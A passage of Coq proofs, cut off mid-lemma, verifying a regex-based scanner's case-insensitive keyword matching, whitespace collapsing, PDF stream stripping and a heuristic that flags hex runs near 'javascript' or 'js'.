  pose proof (eat_class_app _ _ _ _ H) as (E & Hne & _).
  revert H. unfold eat_class.
  destruct u as [|b u]; [destruct w; [congruence | cbn in L; lia]|].
  cbn [app]. change (b :: u ++ r) with ((b :: u) ++ r).
  destruct (code b <? 128)%N.
  - destruct (p (code b)); [|discriminate]. intros H. injection H as <- <-.
    now exists u.
  - destruct (p 383%N && HasPrefix ((b :: u) ++ r) long_s) eqn:E1.
    { intros H. injection H as <- <-.
      apply andb_true_iff in E1 as [-> E1].
      rewrite (HasPrefix_local _ _ _ E1 L). cbn [andb].
      exists (skipn 2 (b :: u)). split; [reflexivity|].
      cbn in L. destruct u as [|b1 u]; [cbn in L; lia | reflexivity]. }
    destruct (p 8490%N && HasPrefix ((b :: u) ++ r) kelvin) eqn:E2;
      [|discriminate].
    intros H. injection H as <- <-.
    apply andb_true_iff in E2 as [-> E2].
    rewrite (HasPrefix_local _ _ _ E2 L). cbn [andb].
    assert (p 383%N && HasPrefix (b :: u) long_s = false) as ->.
    { apply andb_false_iff. apply andb_false_iff in E1 as [E1|E1]; [now left|].
      right. destruct (HasPrefix (b :: u) long_s) eqn:E3; [|reflexivity].
      now rewrite (HasPrefix_app _ _ r E3) in E1. }
    exists (skipn 3 (b :: u)). split; [reflexivity|].
    cbn in L. destruct u as [|b1 [|b2 u]]; try (cbn in L; lia). reflexivity.
Qed.

Lemma eat_seq_app ps : forall s w t,
  eat_seq ps s = Some (w, t) -> s = w ++ t.
Proof.
  induction ps as [|p ps IH]; intros s w t H; cbn in H.
  - now injection H as <- <-.
  - destruct (eat_class p s) as [[w1 t1]|] eqn:E1; [|discriminate].
    destruct (eat_seq ps t1) as [[w2 t2]|] eqn:E2; [|discriminate].
    injection H as <- <-. apply eat_class_app in E1 as (-> & _).
    apply IH in E2 as ->. now rewrite app_assoc.
Qed.

Lemma eat_seq_start p ps s w t :
  eat_seq (p :: ps) s = Some (w, t) -> w <> [] /\ rune_start s.
Proof.
  cbn. destruct (eat_class p s) as [[w1 t1]|] eqn:E1; [|discriminate].
  destruct (eat_seq ps t1) as [[w2 t2]|] eqn:E2; [|discriminate].
  intros H. injection H as <- <-. apply eat_class_app in E1 as (_ & Hne & Hs).
  split; [|exact Hs]. destruct w1; [congruence | discriminate].
Qed.

(** Spellings are local: text appended after a spelling does not change it,
    and a spelling of a longer text that fits in a prefix is one of the
    prefix. *)
Lemma eat_seq_ext ps : forall s w t r,
  eat_seq ps s = Some (w, t) -> eat_seq ps (s ++ r) = Some (w, t ++ r).
Proof.
  induction ps as [|p ps IH]; intros s w t r H; cbn in *.
  - now injection H as <- <-.
  - destruct (eat_class p s) as [[w1 t1]|] eqn:E1; [|discriminate].
    destruct (eat_seq ps t1) as [[w2 t2]|] eqn:E2; [|discriminate].
    injection H as <- <-.
    now rewrite (eat_class_ext _ _ _ _ r E1), (IH _ _ _ r E2).
Qed.

Lemma eat_seq_local ps : forall u r w t,
  eat_seq ps (u ++ r) = Some (w, t) ->
  (exists t', eat_seq ps u = Some (w, t') /\ t = t' ++ r) \/ length u < length w.
Proof.
  induction ps as [|p ps IH]; intros u r w t H; cbn in *.
  - injection H as <- <-. left. now exists u.
  - destruct (eat_class p (u ++ r)) as [[w1 t1]|] eqn:E1; [|discriminate].
    destruct (eat_seq ps t1) as [[w2 t2]|] eqn:E2; [|discriminate].
    injection H as <- <-. rewrite length_app.
    destruct (eat_class_local _ _ _ _ _ E1) as [(t1' & E1' & ->)|L]; [|right; lia].
    rewrite E1'. apply eat_class_app in E1' as (-> & _).
    destruct (IH _ _ _ _ E2) as [(t2' & E2' & ->)|L].
    + left. rewrite E2'. now exists t2'.
    + right. rewrite length_app. lia.
Qed.

Lemma eat_seq_snoc ps p : forall s w t,
  eat_seq (ps ++ [p]) s = Some (w, t) ->
  exists w1 t1 w2,
    eat_seq ps s = Some (w1, t1) /\ eat_class p t1 = Some (w2, t) /\
    w = w1 ++ w2.
Proof.
  induction ps as [|p0 ps IH]; intros s w t H; cbn in H.
  - destruct (eat_class p s) as [[w2 t2]|] eqn:E; [|discriminate].
    injection H as <- <-. exists [], s, w2. rewrite app_nil_r. now repeat split.
  - destruct (eat_class p0 s) as [[w0 t0]|] eqn:E0; [|discriminate].
    destruct (eat_seq (ps ++ [p]) t0) as [[w' t']|] eqn:E1; [|discriminate].
    injection H as <- <-.
    destruct (IH _ _ _ E1) as (w1 & t1 & w2 & H1 & H2 & ->).
    exists (w0 ++ w1), t1, w2. cbn. rewrite E0, H1.
    repeat split; [exact H2 | now rewrite app_assoc].
Qed.

(** A class consumes between one and three bytes. *)
Lemma eat_class_len p s w t :
  eat_class p s = Some (w, t) -> 1 <= length w <= max_eat p.
Proof.
  unfold eat_class, max_eat. destruct s as [|b s]; [discriminate|].
  destruct (code b <? 128)%N.
  - destruct (p (code b)); [|discriminate]. intros H. injection H as <- <-.
    cbn. destruct (p 8490%N), (p 383%N); lia.
  - destruct (p 383%N) eqn:E1; cbn [andb].
    + destruct (HasPrefix (b :: s) long_s).
      { intros H. injection H as <- <-. cbn. destruct (p 8490%N); lia. }
      destruct (p 8490%N && HasPrefix (b :: s) kelvin) eqn:E2; [|discriminate].
      apply andb_true_iff in E2 as [-> _].
      intros H. injection H as <- <-. cbn. lia.
    + destruct (p 8490%N && HasPrefix (b :: s) kelvin) eqn:E2; [|discriminate].
      apply andb_true_iff in E2 as [-> _].
      intros H. injection H as <- <-. cbn. lia.
Qed.

Lemma eat_seq_len ps : forall s w t,
  eat_seq ps s = Some (w, t) ->
  length ps <= length w <= list_sum (map max_eat ps).
Proof.
  induction ps as [|p ps IH]; intros s w t H; cbn in H.
  - injection H as <- <-. cbn. lia.
  - destruct (eat_class p s) as [[w1 t1]|] eqn:E1; [|discriminate].
    destruct (eat_seq ps t1) as [[w2 t2]|] eqn:E2; [|discriminate].
    injection H as <- <-. apply eat_class_len in E1. apply IH in E2.
    rewrite length_app.
    change (list_sum (map max_eat (p :: ps)))
      with (max_eat p + list_sum (map max_eat ps)).
    cbn [length]. lia.
Qed.

(** Classes of word characters consume word bytes. *)
Lemma eat_class_word p s w t q :
  (forall b, p (code b) = true -> IsWordChar (Some b) = true) ->
  p 383%N = false -> p 8490%N = false ->
  eat_class p s = Some (w, t) -> IsWordChar (last_byte w q) = true.
Proof.
  intros Hp H1 H2. unfold eat_class. destruct s as [|b s]; [discriminate|].
  rewrite H1, H2. cbn [andb].
  destruct (code b <? 128)%N; [|discriminate].
  destruct (p (code b)) eqn:E; [|discriminate].
  intros H. injection H as <- <-. cbn. now apply Hp.
Qed.

Lemma eat_class_head_word p s w t :
  (forall b, p (code b) = true -> IsWordChar (Some b) = true) ->
  p 383%N = false -> p 8490%N = false ->
  eat_class p s = Some (w, t) -> IsWordChar (hd_error s) = true.
Proof.
  intros Hp H1 H2. unfold eat_class. destruct s as [|b s]; [discriminate|].
  rewrite H1, H2. cbn [andb].
  destruct (code b <? 128)%N; [|discriminate].
  destruct (p (code b)) eqn:E; [|discriminate].
  intros _. cbn. now apply Hp.
Qed.

Lemma eat_class_nonspace p s w t :
  nonspace_class p -> eat_class p s = Some (w, t) ->
  Forall (fun b => negb (is_space_byte b) = true) w.
Proof.
  intros Hp. unfold eat_class. destruct s as [|b s]; [discriminate|].
  destruct (code b <? 128)%N.
  - destruct (p (code b)) eqn:E; [|discriminate]. intros H. injection H as <- <-.
    constructor; [|constructor]. unfold is_space_byte.
    destruct (is_space (code b)) eqn:Es; [|reflexivity].
    apply Hp in Es. congruence.
  - destruct (p 383%N && HasPrefix (b :: s) long_s).
    { intros H. injection H as <- <-. repeat constructor. }
    destruct (p 8490%N && HasPrefix (b :: s) kelvin); [|discriminate].
    intros H. injection H as <- <-. repeat constructor.
Qed.

Lemma eat_seq_nonspace ps : Forall nonspace_class ps -> forall s w t,
  eat_seq ps s = Some (w, t) ->
  Forall (fun b => negb (is_space_byte b) = true) w.
Proof.
  induction 1 as [|p ps Hp _ IH]; intros s w t H; cbn in H.
  - injection H as <- <-. constructor.
  - destruct (eat_class p s) as [[w1 t1]|] eqn:E1; [|discriminate].
    destruct (eat_seq ps t1) as [[w2 t2]|] eqn:E2; [|discriminate].
    injection H as <- <-. apply Forall_app. split.
    + eapply eat_class_nonspace; eauto.
    + eapply IH; eauto.
Qed.

Lemma fold_class_nonspace a :
  is_space_byte a = false -> nonspace_class (fold_class a).
Proof.
  intros Ha y Hy. unfold is_space in Hy.
  rewrite !orb_true_iff, !N.eqb_eq in Hy.
  revert Ha. destruct Hy as [[[[-> | ->] | ->] | ->] | ->];
    bytecases a; vm_compute; intros H; try reflexivity; discriminate H.
Qed.

Lemma prefix_i_nonspace pat s w t :
  no_space pat -> prefix_i pat s = Some (w, t) ->
  Forall (fun b => negb (is_space_byte b) = true) w.
Proof.
  intros Hp. apply eat_seq_nonspace. apply Forall_map.
  eapply Forall_impl; [|exact Hp]. intros a. apply fold_class_nonspace.
Qed.

Lemma fold_class_m_word b :
  fold_class "m" (code b) = true -> IsWordChar (Some b) = true.
Proof. bytecases b; vm_compute; intros H; try reflexivity; discriminate H. Qed.

Lemma fold_class_h_word b :
  fold_class "h" (code b) = true -> IsWordChar (Some b) = true.
Proof. bytecases b; vm_compute; intros H; try reflexivity; discriminate H. Qed.

Lemma fold_class_f_word b :
  fold_class "f" (code b) = true -> IsWordChar (Some b) = true.
Proof. bytecases b; vm_compute; intros H; try reflexivity; discriminate H. Qed.

(** [spells_i] and [prefix_i]. *)
Lemma spells_prefix pat w r : spells_i pat w -> prefix_i pat (w ++ r) = Some (w, r).
Proof. intros H. apply (eat_seq_ext _ _ _ _ r) in H. exact H. Qed.

Lemma prefix_spells pat s w t :
  prefix_i pat s = Some (w, t) -> spells_i pat w /\ s = w ++ t.
Proof.
  intros H. pose proof (eat_seq_app _ _ _ _ H) as E. split; [|exact E].
  subst s. unfold spells_i, prefix_i in *.
  destruct (eat_seq_local _ _ _ _ _ H) as [(t' & H' & _)|L]; [|lia].
  pose proof (eat_seq_app _ _ _ _ H') as E'.
  assert (t' = []) as ->; [|exact H'].
  apply (f_equal (@length ascii)) in E'. rewrite length_app in E'.
  destruct t'; [reflexivity | cbn in E'; lia].
Qed.

Lemma spells_nonempty c pat w : spells_i (String c pat) w -> w <> [].
Proof. intros H. apply eat_seq_start in H. tauto. Qed.

Lemma spells_stream_word pat' s w t q :
  prefix_i (pat' ++ "m") s = Some (w, t) -> IsWordChar (last_byte w q) = true.
Proof.
  unfold prefix_i.
  replace (map fold_class (str (pat' ++ "m")))
    with (map fold_class (str pat') ++ [fold_class "m"]).
  - intros H. apply eat_seq_snoc in H as (w1 & t1 & w2 & _ & H & ->).
    rewrite last_byte_app.
    eapply eat_class_word; [apply fold_class_m_word | | | exact H]; reflexivity.
  - assert (str (pat' ++ "m") = str pat' ++ ["m"%char]) as ->.
    { unfold str. induction pat' as [|c pat' IH]; [reflexivity|].
      cbn. now rewrite IH. }
    now rewrite map_app.
Qed.

Lemma spells_head_word (c : ascii) pat w s :
  (forall b, fold_class c (code b) = true -> IsWordChar (Some b) = true) ->
  fold_class c 383%N = false -> fold_class c 8490%N = false ->
  spells_i (String c pat) w -> IsWordChar (hd_error (w ++ s)) = true.
Proof.
  intros Hc H1 H2 Hw. apply (spells_prefix _ _ s) in Hw.
  unfold prefix_i in Hw. cbn [str list_ascii_of_string map eat_seq] in Hw.
  destruct (eat_class (fold_class c) (w ++ s)) as [[w1 t1]|] eqn:E;
    [|discriminate].
  eapply eat_class_head_word; eauto.
Qed.

(** No spelling starts before the first one. *)
Lemma index_i_before pat : forall a s,
  index_i pat (a ++ s) = Some (length a) ->
  forall a1 a2, a = a1 ++ a2 -> a2 <> [] -> prefix_i pat (a2 ++ s) = None.
Proof.
  induction a as [|b a IH]; intros s H a1 a2 E Hne.
  - destruct a1; [cbn in E; congruence | discriminate].
  - cbn [app index_i] in H.
    destruct (prefix_i pat (b :: a ++ s)) eqn:E0; [discriminate|].
    destruct (index_i pat (a ++ s)) as [n|] eqn:E1; [|discriminate].
    cbn in H. injection H as ->.
    destruct a1 as [|b1 a1].
    + cbn in E. subst a2. exact E0.
    + injection E as -> ->. now apply (IH s E1 a1 a2).
Qed.

(** A case-insensitive literal of ASCII characters matches the spellings of
    its word. *)
Lemma run_lit_i pat q s :
  is_ascii (str pat) ->
  run (lit_i pat) (Cur q s) =
  match prefix_i pat s with
  | Some (w, t) => [Cur (last_byte w q) t]
  | None => []
  end.
Proof.
  intros Hp. unfold lit_i, prefix_i, chr_i.
  rewrite <- run_seq_classes.
  - now rewrite map_map.
  - apply Forall_map. eapply Forall_impl; [|exact Hp].
    intros a. apply folded_fold_class.
Qed.

Lemma in_run_lit_i pat a q s :
  is_ascii (str pat) -> spells_i pat a ->
  In (Cur (last_byte a q) s) (run (lit_i pat) (Cur q (a ++ s))).
Proof.
  intros Hp Ha. rewrite run_lit_i by assumption.
  rewrite (spells_prefix _ _ s Ha). now left.
Qed.

(** The literal of a concatenation. *)
Lemma run_lit_i_app (a b : string) c :
  run (lit_i (a ++ b)) c = flat_map (run (lit_i b)) (run (lit_i a) c).
Proof. unfold lit_i. rewrite str_app, map_app. apply run_seq_of_app. Qed.

Lemma consuming_lit_i c pat' : consuming (lit_i (String c pat')).
Proof. apply consuming_concat, consuming_class. Qed.

(** A literal, whitespace, and a pattern. *)
Lemma in_run_lit_ws pat r a ws q s e :
  is_ascii (str pat) -> spells_i pat a ->
  Forall (fun b => is_space_byte b = true) ws ->
  In e (run r (Cur (last_byte ws (last_byte a q)) s)) ->
  In e (run (lit_i pat ;; star space ;; r)%re (Cur q (a ++ ws ++ s))).
Proof.
  intros Hp Ha Hws He.
  eapply in_run_concat; [apply in_run_lit_i; assumption|].
  eapply in_run_concat; [|exact He].
  unfold star. apply in_run_star_class; [apply is_space_ascii | exact Hws].
Qed.

(** Letters that agree up to ASCII case are a spelling. *)
Lemma same_letter_class p b :
  (code p < 128)%N -> ASCII_lower (code p) = ASCII_lower (code b) ->
  (code b <? 128)%N = true /\ fold_class p (code b) = true.
Proof.
  intros Hp. pose proof (code_lt_256 b) as Hb.
  unfold fold_class, fold_orbit, mem_rune, ASCII_lower.
  destruct (in_range 65 90 (code p)) eqn:Ep;
    destruct (in_range 65 90 (code b)) eqn:Eb; intros E;
    match goal with
    | |- context [in_range 97 122 ?l] => destruct (in_range 97 122 l) eqn:El
    end;
    repeat match goal with
           | H : in_range _ _ _ = true |- _ => apply in_range_spec in H
           | H : in_range _ _ _ = false |- _ => apply in_range_false in H
           end;
    (split; [apply N.ltb_lt; lia|]);
    cbn [existsb app]; rewrite ?orb_true_iff, ?N.eqb_eq; lia.
Qed.

Lemma same_letters_spells pat w :
  is_ascii (str pat) -> same_letters (str pat) w -> spells_i pat w.
Proof.
  unfold spells_i, prefix_i. generalize (str pat). intros l Ha H.
  induction H as [|p b l w Hpb _ IH]; [reflexivity|].
  apply Forall_cons_iff in Ha as [Hp Ha].
  destruct (same_letter_class p b Hp Hpb) as [H1 H2].
  cbn [map eat_seq eat_class]. now rewrite H1, H2, (IH Ha).
Qed.

Lemma is_ascii_stream : is_ascii (str "stream").
Proof. repeat constructor. Qed.

Lemma is_ascii_endstream : is_ascii (str "endstream").
Proof. repeat constructor. Qed.

Lemma is_ascii_javascript : is_ascii (str "javascript").
Proof. repeat constructor. Qed.

Lemma is_ascii_js : is_ascii (str "js").
Proof. repeat constructor. Qed.

Lemma no_space_stream : no_space "stream".
Proof. repeat constructor. Qed.

Lemma no_space_JavaScript : no_space "JavaScript".
Proof. repeat constructor. Qed.

Lemma no_space_JS : no_space "JS".
Proof. repeat constructor. Qed.

Lemma no_space_scheme :
  no_space "http://" /\ no_space "https://" /\ no_space "file://"
  /\ no_space "ftp://".
Proof. repeat split; repeat constructor. Qed.

(** ** Whitespace collapsing

    Replacing every match of [whitespaceRegex] by one space is [squeeze]:
    each maximal run of whitespace becomes a single space. *)

(** [squeeze] copies bytes that are not whitespace and drops the rest of a
    run of whitespace. *)
Lemma squeeze_nonspace a : Forall (fun b => negb (is_space_byte b) = true) a ->
  forall st s, a <> [] \/ st = false -> squeeze st (a ++ s) = a ++ squeeze false s.
Proof.
  induction 1 as [|b a Hb _ IH]; intros st s H.
  - destruct H as [H| ->]; [congruence | reflexivity].
  - cbn. apply negb_true_iff in Hb. rewrite Hb. f_equal. apply IH. now right.
Qed.

Lemma squeeze_spaces ws : Forall (fun b => is_space_byte b = true) ws ->
  forall t, not_starting is_space_byte t ->
  squeeze true (ws ++ t) = squeeze false t.
Proof.
  induction 1 as [|b ws Hb _ IH]; intros t Ht.
  - destruct t as [|b t]; [reflexivity|]. cbn in *. now rewrite Ht.
  - cbn. rewrite Hb. now apply IH.
Qed.

(** [squeeze] commutes with a word in the middle of the text. *)
Lemma squeeze_app_byte c : is_space_byte c = false -> forall a st s,
  squeeze st (a ++ c :: s) = squeeze st a ++ c :: squeeze false s.
Proof.
  intros Hc. induction a as [|b a IH]; intros st s; cbn.
  - now rewrite Hc.
  - destruct (is_space_byte b); [destruct st|]; cbn; now rewrite IH.
Qed.

Lemma squeeze_app_word w : Forall (fun b => negb (is_space_byte b) = true) w ->
  w <> [] -> forall a st s,
  squeeze st (a ++ w ++ s) = squeeze st a ++ w ++ squeeze false s.
Proof.
  intros Hw Hne a st s. destruct w as [|c w]; [congruence|].
  apply Forall_cons_iff in Hw as [Hc Hw]. apply negb_true_iff in Hc.
  cbn [app]. rewrite squeeze_app_byte by assumption. do 2 f_equal.
  destruct w as [|d w]; [reflexivity|].
  apply squeeze_nonspace; [exact Hw | left; discriminate].
Qed.

(** Whitespace before a word collapses to at most one space. *)
Lemma squeeze_gap ws w s :
  Forall (fun b => is_space_byte b = true) ws ->
  Forall (fun b => negb (is_space_byte b) = true) w -> w <> [] ->
  exists ws', Forall (fun b => is_space_byte b = true) ws' /\
              squeeze false (ws ++ w ++ s) = ws' ++ w ++ squeeze false s.
Proof.
  intros Hws Hw Hne. destruct ws as [|c ws].
  - exists []. split; [constructor|]. cbn [app].
    apply (squeeze_app_word w Hw Hne [] false s).
  - exists [" "%char]. split; [now repeat constructor|].
    apply Forall_cons_iff in Hws as [Hc Hws]. cbn [app squeeze]. rewrite Hc.
    f_equal. rewrite squeeze_spaces.
    + apply (squeeze_app_word w Hw Hne [] false s).
    + exact Hws.
    + destruct w as [|d w]; [congruence|]. cbn.
      apply Forall_inv in Hw. now apply negb_true_iff in Hw.
    Qed.

Lemma IsWordChar_last a : forall d d',
  IsWordChar d = IsWordChar d' ->
  IsWordChar (last_byte a d) = IsWordChar (last_byte a d').
Proof. destruct a; intros d d' H; [exact H | reflexivity]. Qed.

Lemma space_not_word b : is_space_byte b = true -> IsWordChar (Some b) = false.
Proof. bytecases b; vm_compute; intros H; try reflexivity; discriminate H. Qed.

(** Collapsing keeps the kind of the last byte. *)
Lemma squeeze_last_word : forall a st d,
  (st = true -> IsWordChar d = false) ->
  IsWordChar (last_byte (squeeze st a) d) = IsWordChar (last_byte a d).
Proof.
  induction a as [|b a IH]; intros st d H; [reflexivity|].
  cbn [squeeze]. destruct (is_space_byte b) eqn:Hb.
  - pose proof (space_not_word b Hb) as Hw.
    change (last_byte (b :: a) d) with (last_byte a (Some b)).
    destruct st.
    + rewrite IH by assumption. apply IsWordChar_last.
      now rewrite Hw, H.
    + change (last_byte (" "%char :: squeeze true a) d)
        with (last_byte (squeeze true a) (Some " "%char)).
      rewrite IH by reflexivity. apply IsWordChar_last. now rewrite Hw.
  - change (last_byte (b :: squeeze false a) d)
      with (last_byte (squeeze false a) (Some b)).
    change (last_byte (b :: a) d) with (last_byte a (Some b)).
    apply IH. discriminate.
Qed.

Lemma consuming_whitespaceRegex : consuming whitespaceRegex.
Proof. apply consuming_concat, consuming_class. Qed.

Lemma run_whitespace_none q s :
  not_starting is_space_byte s -> run whitespaceRegex (Cur q s) = [].
Proof.
  intros H. unfold whitespaceRegex, plus.
  change (run (Concat space (Star true space)) (Cur q s))
    with (flat_map (run (Star true space)) (run space (Cur q s))).
  rewrite run_space. destruct s as [|b t]; [reflexivity|].
  cbn in H. now rewrite H.
Qed.

Lemma run_whitespace_head q b ws t :
  is_space_byte b = true -> Forall (fun b => is_space_byte b = true) ws ->
  not_starting is_space_byte t ->
  exists l, run whitespaceRegex (Cur q (b :: ws ++ t))
            = Cur (last_byte ws (Some b)) t :: l.
Proof.
  intros Hb Hws Ht. unfold whitespaceRegex, plus.
  change (run (Concat space (Star true space)) (Cur q (b :: ws ++ t)))
    with (flat_map (run (Star true space)) (run space (Cur q (b :: ws ++ t)))).
  rewrite run_space, Hb. cbn [flat_map].
  destruct (run_star_space_head ws Hws (Some b) t Ht) as (l & Hl).
  unfold star in Hl. rewrite Hl. eexists. reflexivity.
Qed.

(** Collapsing whitespace with the engine is [squeeze]. *)
Lemma replace_whitespace : forall s q,
  replace_from whitespaceRegex (str " ") (Cur q s) = squeeze false s.
Proof.
  intros s. remember (length s) as n eqn:En. revert s En.
  induction n as [n IH] using lt_wf_ind. intros s -> q.
  destruct s as [|b t].
  { rewrite replace_unfold by apply consuming_whitespaceRegex.
    rewrite find_unfold, run_whitespace_none by exact I. reflexivity. }
  destruct (is_space_byte b) eqn:Hb.
  - destruct (split_while is_space_byte t) as (ws & t' & -> & Hws & Ht).
    destruct (run_whitespace_head q b ws t' Hb Hws Ht) as (l & Hl).
    rewrite (replace_at _ _ _ _ _ _ consuming_whitespaceRegex Hl).
    rewrite (IH (length t')) by (cbn; rewrite ?length_app; lia || reflexivity).
    cbn [squeeze]. rewrite Hb. now rewrite squeeze_spaces.
  - destruct (split_while (fun b => negb (is_space_byte b)) (b :: t))
      as (a & s1 & E & Ha & Hs).
    assert (a <> []) as Hne.
    { intros ->. cbn in E. subst s1. cbn in Hs. now rewrite Hb in Hs. }
    rewrite E.
    assert (rune_start s1) as Hrs.
    { destruct s1 as [|c s1]; [exact I|]. cbn in Hs.
      apply negb_false_iff in Hs. apply ascii_not_cont, is_space_ascii, Hs. }
    rewrite replace_skip; [|apply consuming_whitespaceRegex | exact Hrs |].
    + rewrite (IH (length s1)); [| |reflexivity].
      * symmetry. apply squeeze_nonspace; [exact Ha | now left].
      * rewrite E, length_app. destruct a; [congruence | cbn; lia].
    + intros a1 a2 -> Hne2. apply run_whitespace_none.
      apply Forall_app in Ha as [_ Ha].
      destruct a2 as [|c a2]; [congruence|]. cbn.
      apply Forall_inv in Ha. now apply negb_true_iff in Ha.
Qed.

Lemma collapseWhitespace_squeeze s : collapseWhitespace s = squeeze false s.
Proof. apply replace_whitespace. Qed.

(** ** Stream stripping

    The first match of [streamRx] starts at the first spelling of the opening
    keyword that a word boundary follows, and ends with the first spelling of
    the closing keyword after it; the region becomes one space. *)

(** [streamRx] is its opening keyword followed by [stream_tail]. *)
Lemma streamRx_unfold c :
  run streamRx c = flat_map (run stream_tail) (run (lit_i "stream") c).
Proof. reflexivity. Qed.

(** Where no spelling of the opening keyword starts, [streamRx] does not
    match. *)
Lemma run_streamRx_none q s :
  prefix_i "stream" s = None -> run streamRx (Cur q s) = [].
Proof.
  intros H. rewrite streamRx_unfold, run_lit_i by apply is_ascii_stream.
  now rewrite H.
Qed.

Lemma run_streamRx_prev q q' s :
  run streamRx (Cur q s) = run streamRx (Cur q' s).
Proof.
  rewrite !streamRx_unfold, !run_lit_i by apply is_ascii_stream.
  destruct (prefix_i "stream" s) as [[w t]|] eqn:E; [|reflexivity].
  apply eat_seq_start in E as [Hne _].
  now rewrite (last_byte_nonempty w q q' Hne).
Qed.

Lemma consuming_streamRx : consuming streamRx.
Proof. apply consuming_concat, consuming_lit_i. Qed.

Lemma stripStreams_from content :
  stripStreams content = replace_from streamRx (str " ") (Cur None content).
Proof. reflexivity. Qed.

(** ** The hex heuristics

    What [jsHexRx], [jsWordRegex] and [jsHexAngle] match, and the context
    window before a hex run. *)

Lemma consuming_jsHexRx : consuming jsHexRx.
Proof. apply consuming_concat, consuming_concat, consuming_class. Qed.

(** A match of [jsHexRx] is a [#] followed by hex digits. *)
Lemma jsHexRx_sound q s e :
  In e (run jsHexRx (Cur q s)) ->
  exists h, s = "#"%char :: h ++ rest e /\
            Forall (fun b => is_hex_byte b = true) h.
Proof.
  intros H. apply in_run_concat_inv in H as (c1 & H1 & H2).
  rewrite run_lit1 in H1 by reflexivity.
  destruct s as [|b t]; [destruct H1|].
  destruct (N.eqb_spec (code "#") (code b)) as [E|E]; [|destruct H1].
  apply code_inj in E. subst b. destruct H1 as [<-|[]].
  apply run_span_of with (P := fun b => is_hex_byte b = true) in H2.
  - destruct H2 as (h & [Hh _] & Fh). cbn [rest] in Hh. exists h. now subst t.
  - apply hex_built. unfold at_least, times. repeat constructor.
Qed.

(** A [#] followed by eight hex digits or more is matched. *)
Lemma jsHexRx_complete q h t :
  8 <= length h -> Forall (fun b => is_hex_byte b = true) h ->
  run jsHexRx (Cur q ("#"%char :: h ++ t)) <> [].
Proof.
  intros L H.
  assert (exists e, In e (run jsHexRx (Cur q ("#"%char :: h ++ t)))) as [e He];
    [|intros E; now rewrite E in He].
  rewrite <- (firstn_skipn 8 h), <- app_assoc.
  rewrite <- (firstn_skipn 8 h) in H. apply Forall_app in H as [H8 _].
  exists (Cur (last_byte (firstn 8 h) (Some "#"%char)) (skipn 8 h ++ t)).
  apply in_run_concat
    with (c1 := Cur (Some "#"%char) (firstn 8 h ++ skipn 8 h ++ t)).
  - rewrite run_lit1 by reflexivity. now left.
  - apply in_run_concat
      with (c1 := Cur (last_byte (firstn 8 h) (Some "#"%char)) (skipn 8 h ++ t)).
    + apply (in_run_pairs 4); [|exact H8]. rewrite firstn_length_le; lia.
    + apply in_run_star_nil.
Qed.

(** Every [#] followed by eight hex digits starts one of the matches of
    [jsHexRx]. *)
Lemma find_loop_hex n h b :
  8 <= length h -> Forall (fun x => is_hex_byte x = true) h ->
  forall k a q fuel,
    length a <= k -> length (a ++ "#"%char :: h ++ b) < fuel ->
    In (n - length ("#"%char :: h ++ b))
       (map fst (find_loop jsHexRx n fuel (Cur q (a ++ "#"%char :: h ++ b)))).
Proof.
  intros L H. induction k as [|k IH]; intros a q fuel Ha Hf;
    (destruct fuel as [|fuel]; [lia|]); cbn [find_loop];
    (destruct (find_some_before jsHexRx ("#"%char :: h ++ b)
               (rune_start_ascii "#" _ eq_refl) a q
               (jsHexRx_complete _ h b L H))
      as (a1 & a2 & e & l & -> & Hr & ->));
    (assert (In e (run jsHexRx (Cur (last_byte a1 q) (a2 ++ "#"%char :: h ++ b))))
      as Hin by (rewrite Hr; now left));
    rewrite (consuming_jsHexRx _ _ Hin); cbn [map fst rest].
  - destruct a1, a2; try (cbn in Ha; lia). now left.
  - destruct a2 as [|c a2]; [now left | right].
    apply jsHexRx_sound in Hin as (hh & E & Fh).
    injection E as -> E.
    destruct (not_in_prefix _ hh Fh a2 "#"%char (h ++ b) (rest e)
                ltac:(discriminate) E) as (a' & -> & E').
    destruct e as [qe re]. cbn [rest] in E'. subst re.
    apply IH.
    + rewrite !length_app in Ha. cbn in Ha. rewrite length_app in Ha. lia.
    + rewrite !length_app in Hf. cbn in Hf. rewrite !length_app in Hf.
      rewrite !length_app. cbn. rewrite length_app. lia.
Qed.

(** Every [#] followed by eight hex digits starts a reported location. *)
Lemma FindAll_hex a h b :
  8 <= length h -> Forall (fun x => is_hex_byte x = true) h ->
  exists loc, In loc (FindAllStringIndex jsHexRx (a ++ "#"%char :: h ++ b)) /\
              fst loc = length a.
Proof.
  intros L H. unfold FindAllStringIndex, start.
  pose proof (find_loop_hex (length (a ++ "#"%char :: h ++ b)) h b L H
                (length a) a None (S (length (a ++ "#"%char :: h ++ b)))
                (le_n _) (Nat.lt_succ_diag_r _)) as Hin.
  apply in_map_iff in Hin as (loc & E & Hin). exists loc. split; [exact Hin|].
  rewrite E, length_app. lia.
Qed.

(** One location with scripting vocabulary before it is enough. *)
Lemma hex_context_loop_hit t locs loc :
  In loc locs ->
  MatchString jsWordRegex (slice t (fst loc - 80) (fst loc)) = true ->
  hex_context_loop t locs = true.
Proof.
  induction locs as [|l0 locs IH]; intros Hin H; [destruct Hin|].
  cbn [hex_context_loop].
  destruct (MatchString jsWordRegex (slice t (fst l0 - 80) (fst l0))) eqn:E;
    [reflexivity|].
  destruct Hin as [->|Hin]; [congruence | now apply IH].
Qed.

(** The context window is the last 80 bytes before the location. *)
Lemma slice_before a s : slice (a ++ s) (length a - 80) (length a) = lastn 80 a.
Proof.
  unfold slice, lastn.
  rewrite skipn_app.
  replace (length a - 80 - length a) with 0 by lia. cbn [skipn].
  rewrite firstn_app, length_skipn.
  replace (length a - (length a - 80) - (length a - (length a - 80))) with 0
    by lia.
  cbn [firstn]. rewrite app_nil_r. apply firstn_all2. rewrite length_skipn. lia.
Qed.

(** The two co-occurrence tests without the engine. *)
Lemma jsWordRegex_spec t : MatchString jsWordRegex t = true <-> has_js_word t.
Proof.
  split.
  - intros H. apply MatchString_elim in H as (a & s & -> & H).
    unfold jsWordRegex in H. cbn [run] in H.
    rewrite !run_lit_i in H by (apply is_ascii_javascript || apply is_ascii_js).
    destruct (prefix_i "javascript" s) as [[w t]|] eqn:E1.
    { apply prefix_spells in E1 as [Hw ->]. exists a, w, t. split; auto. }
    destruct (prefix_i "js" s) as [[w t]|] eqn:E2; [|now cbn in H].
    apply prefix_spells in E2 as [Hw ->]. exists a, w, t. split; auto.
  - intros (a & w & b & -> & Hw).
    apply MatchString_intro.
    + destruct Hw as [Hw|Hw]; apply (spells_prefix _ _ b) in Hw;
        now apply eat_seq_start in Hw.
    + unfold jsWordRegex. cbn [run].
      rewrite !run_lit_i by (apply is_ascii_javascript || apply is_ascii_js).
